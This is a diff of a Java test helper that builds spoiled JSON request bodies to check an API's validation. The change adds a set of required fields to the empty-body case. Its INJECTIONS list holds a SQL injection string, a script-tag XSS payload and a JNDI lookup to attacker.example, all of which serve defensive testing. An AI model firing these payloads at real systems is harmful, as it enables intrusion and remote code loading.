@@ -20,8 +20,16 @@ import java.util.Set;
  */
 final class BodyMutations {
 
-    /** One spoiled body: its kind (for the counts), the JSON pointer spoiled (null if the whole body), and the text sent. */
-    record Mutation(String kind, String pointer, String body, boolean namesField) {
+    /**
+     * One spoiled body: its kind (for the counts), the JSON pointer spoiled (null if the whole body),
+     * the text sent, whether the refusal names exactly that pointer (else it may name the part that
+     * holds it), and for an empty body, the required fields any one of which the refusal names.
+     */
+    record Mutation(String kind, String pointer, String body, boolean namesField, Set<String> anyOf) {
+
+        Mutation(String kind, String pointer, String body, boolean namesField) {
+            this(kind, pointer, body, namesField, Set.of());
+        }
     }
 
     static final List<String> INJECTIONS = List.of("' OR '1'='1' --", "<script>alert(1)</script>", "${jndi:ldap://attacker.example/x}",
@@ -48,12 +56,17 @@ final class BodyMutations {
         }
         String first = base.fieldNames().next();
         out.add(new Mutation("duplicate key", null, "{\"" + first + "\":" + base.get(first) + "," + text.substring(1), false));
-        out.add(new Mutation("missing field", null, "{}", false));
+        Set<String> required = new java.util.TreeSet<>();
         for (String field : iterable(base.fieldNames())) {
             if (!optional.contains(field)) {
+                required.add("/" + field);
                 out.add(spoil("missing field", base, "/" + field, null, false));
                 out.add(spoil("missing field", base, "/" + field, n -> NODES.nullNode(), false));
             }
+        }
+        if (!required.isEmpty()) {
+            // with every field optional, an empty body is a valid one: no case
+            out.add(new Mutation("missing field", null, "{}", false, Set.copyOf(required)));
         }
         walk(base, "", (pointer, node) -> {
             for (JsonNode wrong : wrongTypes(node)) {
